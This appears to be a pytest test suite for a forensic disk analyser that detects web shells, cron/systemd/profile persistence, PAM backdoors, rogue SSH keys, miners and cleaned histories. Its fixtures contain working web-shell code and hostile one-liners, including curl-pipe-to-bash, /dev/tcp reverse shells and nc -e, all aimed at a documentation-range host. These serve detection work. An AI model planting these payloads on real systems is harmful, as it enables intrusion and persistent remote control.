"""Each family of traces is found where it was left, and its ordinary look-alike is not."""

from __future__ import annotations

import hashlib

import pytest
from conftest import BASE, Disks

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3dVnGcK8Yv1m1Yb2o0rQy5c3mJ9jQ2n7p1s5t8v0wx"
OTHER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK8dVnGcK8Yv1m1Yb2o0rQy5c3mJ9jQ2n7p1s5t8v0wz"

ACCESS = '{ip} - - [28/Feb/2026:10:00:0{n} +0000] "POST {path} HTTP/1.1" {status} 12 "-" "curl/8"\n'


@pytest.mark.parametrize("name, source", [
    ("var/www/html/a.php", "<?php @eval($_POST['x']);"),
    ("var/www/html/b.php", "<?php system($_GET['cmd']);"),
    ("var/www/html/c.phtml", "<?php eval(gzinflate(base64_decode('SyvNBgA=')));"),
    ("var/www/html/d.php", "<?php $f = 'as'.'sert'; $f(base64_decode($_REQUEST['q']));"),
    ("var/www/html/uploads/e.gif", "GIF89a <?php passthru($_COOKIE['c']);"),
    ("var/www/html/f.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    ("var/www/html/g.aspx", '<%@ Page Language="JScript"%><%eval(Request.Item["x"],"unsafe");%>'),
])
def test_a_web_shell_is_found_by_what_it_does(disks: Disks, name: str, source: str) -> None:
    disks.add({name: source})
    [found] = disks.analyse().of("web-shell")
    assert found["path"] == f"/{name}" and found["severity"] in ("high", "critical")
    assert found["technique"] == "T1505.003" and found["volumeId"] == "vol-source0" and len(found["sha256"]) == 64


@pytest.mark.parametrize("source", [
    "<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' out.png');",
    "<?php echo htmlspecialchars($_GET['q']); $data = base64_decode($row['picture']);",
    "<?php // evaluate($_POST) is ours\n$form->evaluate($_POST['answers']);",
    "<?php system('uptime');",
])
def test_ordinary_php_is_no_web_shell(disks: Disks, source: str) -> None:
    disks.add({"var/www/html/page.php": source})
    assert disks.analyse().findings == []


def test_a_web_shell_is_found_below_the_root_that_the_server_is_configured_with(disks: Disks) -> None:
    shell = "<?php eval($_POST['x']);"
    disks.add({"etc/nginx/conf.d/site.conf": "server {\n  root /opt/site/public;\n}\n", "opt/site/public/x.php": shell, "home/admin/exercise.php": shell})
    assert [found["path"] for found in disks.analyse().of("web-shell")] == ["/opt/site/public/x.php"]


def test_calls_of_a_web_shell_are_counted_by_address_and_failed_ones_are_not(disks: Disks) -> None:
    log = "".join(ACCESS.format(ip=ip, n=n, path=path, status=status) for n, (ip, path, status) in enumerate([
        ("203.0.113.5", "/x.php", 404), ("203.0.113.6", "/x.php", 200), ("203.0.113.6", "/x%2Ephp?a=b", 200), ("192.0.2.1", "/index.php", 200)]))
    disks.add({"var/www/html/x.php": "<?php eval($_POST['x']);", "var/log/nginx/access.log": log})
    [found] = [finding for finding in disks.analyse().of("web-shell-access")]
    assert "/x.php was called 2×, by 203.0.113.6 (2×)" in found["reason"]
    assert found["at"] == "2026-02-28T10:00:01Z" and found["offset"] == log.index("203.0.113.6")


def test_calls_of_a_web_shell_that_was_deleted_are_found(disks: Disks) -> None:
    disks.add({"var/www/html/uploads/cat.jpg": "x", "var/log/apache2/access.log": ACCESS.format(ip="203.0.113.6", n=1, path="/uploads/gone.php", status=200)})
    assert "no longer there" in disks.analyse().of("web-shell-access")[0]["reason"]


@pytest.mark.parametrize("path, line", [
    ("etc/cron.d/x", "* * * * * root curl -s http://198.51.100.1/a | bash"),
    ("var/spool/cron/crontabs/root", "@reboot bash -i >& /dev/tcp/198.51.100.1/443 0>&1"),
    ("var/spool/cron/root", "0 * * * * /dev/shm/.x/run"),
    ("etc/cron.hourly/sync", "#!/bin/sh\necho aGk= | base64 -d | sh"),
    ("etc/crontab", "*/5 * * * * root nc -e /bin/sh 198.51.100.1 443"),
])
def test_a_cron_job_that_calls_out_is_found(disks: Disks, path: str, line: str) -> None:
    disks.add({path: line + "\n"})
    [found] = disks.analyse().of("cron-persistence")
    assert found["path"] == f"/{path}" and found["severity"] in ("high", "critical")


@pytest.mark.parametrize("line", [
    "25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    "0 4 * * * root find /tmp/cache -mtime +3 -delete",
    "0 4 * * * deploy curl -fsS https://hc-ping.example.com/abc > /dev/null",
    "0 4 * * * deploy /home/deploy/.local/bin/backup",
    "# * * * * * root curl http://198.51.100.1/a | sh",
])
def test_ordinary_cron_jobs_are_left_alone(disks: Disks, line: str) -> None:
    disks.add({"etc/cron.d/job": line + "\n"})
    assert disks.analyse().loud == []


@pytest.mark.parametrize("rule, path, content", [
    ("systemd-persistence", "etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c 'curl http://198.51.100.1/a | sh'\n"),
    ("systemd-persistence", "home/admin/.config/systemd/user/x.service", "[Service]\nExecStart=/var/tmp/x\n"),
    ("startup-persistence", "etc/rc.local", "#!/bin/sh\n/tmp/.X/agent &\n"),
    ("preload-library", "etc/ld.so.preload", "/usr/local/lib/libx.so\n"),
    ("pam-backdoor", "etc/pam.d/sshd", "auth sufficient pam_permit.so\n"),
    ("pam-backdoor", "etc/pam.d/su", "auth required /tmp/pam_x.so\n"),
    ("pam-backdoor", "etc/pam.d/login", "auth optional pam_exec.so expose_authtok /usr/local/bin/x\n"),
    ("profile-persistence", "etc/profile.d/x.sh", "bash -i >& /dev/tcp/198.51.100.1/443 0>&1 &\n"),
    ("profile-persistence", "root/.bashrc", "(curl -s http://198.51.100.1/a | sh) &\n"),
])
def test_persistence_is_found(disks: Disks, rule: str, path: str, content: str) -> None:
    disks.add({path: content})
    [found] = disks.analyse().of(rule)
    assert found["path"] == f"/{path}" and found["severity"] in ("high", "critical")


def test_a_key_for_root_that_came_lately_is_rogue_and_the_images_own_key_is_not(disks: Disks) -> None:
    own = f'no-port-forwarding,command="echo \'Please login as the user \\"admin\\"\'" {KEY} ops'
    disks.add({"root/.ssh/authorized_keys": f"{own}\n{OTHER} x@kali\n", "home/admin/.ssh/authorized_keys": f"{KEY} ops\n"}, recent=("root/.ssh/authorized_keys",))
    [found] = disks.analyse().of("rogue-ssh-key")
    assert found["severity"] == "critical" and "x@kali" in found["evidence"] and "SHA256:" in found["evidence"]


def test_a_key_of_an_account_of_the_system_is_rogue(disks: Disks) -> None:
    disks.add({"var/www/.ssh/authorized_keys": f"{OTHER} deploy\n"}, recent=("var/www/.ssh/authorized_keys",))
    assert disks.analyse().of("rogue-ssh-key")[0]["severity"] == "high"


def test_a_second_root_and_a_password_for_a_system_account_are_found(disks: Disks) -> None:
    disks.add({
        "etc/passwd": BASE["etc/passwd"].replace("/usr/sbin/nologin", "/bin/sh") + "toor:x:0:0::/root:/bin/sh\n",
        "etc/shadow": BASE["etc/shadow"].replace("www-data:*", "www-data:$6$salt$hash"),
    })
    report = disks.analyse()
    assert report.of("uid-zero-account")[0]["severity"] == "critical"
    assert report.of("login-account")[0]["path"] == "/etc/passwd"
    assert "salt" not in str(report.findings)


def test_sudo_without_password_is_expected_from_cloud_init_only(disks: Disks) -> None:
    disks.add({"etc/sudoers.d/90-cloud-init-users": "admin ALL=(ALL) NOPASSWD:ALL\n", "etc/sudoers.d/zz": "www-data ALL=(ALL) NOPASSWD: ALL\n"}, recent=("etc/sudoers.d/zz",))
    assert {found["path"].rpartition("/")[2]: found["severity"] for found in disks.analyse().of("passwordless-sudo")} == {"90-cloud-init-users": "info", "zz": "high"}


@pytest.mark.parametrize("name, content", [
    ("data/run", "#!/bin/sh\nexec ./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1\n"),
    ("x/config.json", '{"pools": [{"url": "pool.example:3333"}], "donate-level": 1, "randomx": {}}'),
])
def test_a_miner_on_a_data_volume_is_found(disks: Disks, name: str, content: str) -> None:
    disks.add({})
    disks.add({name: content}, base=False)
    [found] = disks.analyse().of("crypto-miner")
    assert (found["volumeId"], found["path"], found["severity"]) == ("vol-source1", f"/{name}", "high")


def test_a_file_that_is_as_its_package_installed_it_is_no_loud_finding(disks: Disks) -> None:
    content = "#!/bin/sh\nexec ./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1\n"

    disks.add({"usr/bin/miner": content, "var/lib/dpkg/info/miner.md5sums": f"{hashlib.md5(content.encode()).hexdigest()}  usr/bin/miner\n"})
    [found] = disks.analyse().of("crypto-miner")
    assert found["severity"] == "low" and "package" in found["reason"]


def test_cleaned_histories_are_found(disks: Disks) -> None:
    disks.add({"home/admin/.bash_history": "", "home/admin/.bashrc": "unset HISTFILE\n"}, links={"root/.bash_history": "/dev/null"}, recent=("home/admin/.bash_history",))
    assert sorted(found["path"] for found in disks.analyse().of("cleaned-history")) == ["/home/admin/.bash_history", "/home/admin/.bashrc", "/root/.bash_history"]


def test_programs_in_hiding_places_and_with_the_owners_rights_are_found(disks: Disks) -> None:
    disks.add(
        {"tmp/.ICE/agent": "#!/bin/sh\n", "dev/shm/.e": b"\x7fELF\x02", "tmp/notes.txt": "x", "usr/local/lib/.sh": "x", "usr/bin/passwd": "x", "usr/bin/find": "x"},
        modes={"tmp/.ICE/agent": 0o755, "usr/local/lib/.sh": 0o4755, "usr/bin/passwd": 0o4755, "usr/bin/find": 0o4755},
    )
    report = disks.analyse()
    assert sorted(found["path"] for found in report.of("hidden-executable")) == ["/dev/shm/.e", "/tmp/.ICE/agent"]
    assert sorted(found["path"] for found in report.of("setuid-file")) == ["/usr/bin/find", "/usr/local/lib/.sh"]


def test_cloud_credentials_are_reported_and_never_repeated(disks: Disks) -> None:
    disks.add({"home/admin/.aws/credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"})
    report = disks.analyse()
    assert report.of("cloud-credentials")[0]["severity"] == "medium"
    assert "wJalr" not in str(report.findings) and "AKIAIOSFODNN7EXAMPLE" not in str(report.findings)


def test_a_clean_disk_gives_nothing_loud(disks: Disks) -> None:
    disks.add({
        "etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", "home/admin/.ssh/authorized_keys": f"{KEY} ops\n",
        "home/admin/.bash_history": "ls\ncd /tmp\n", "var/www/html/index.php": "<?php echo 'hello';", "etc/sudoers.d/90-cloud-init-users": "admin ALL=(ALL) NOPASSWD:ALL\n",
        "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n",
    }, recent=("home/admin/.bash_history",))
    report = disks.analyse()
    assert report.loud == [] and report.unreadable == []
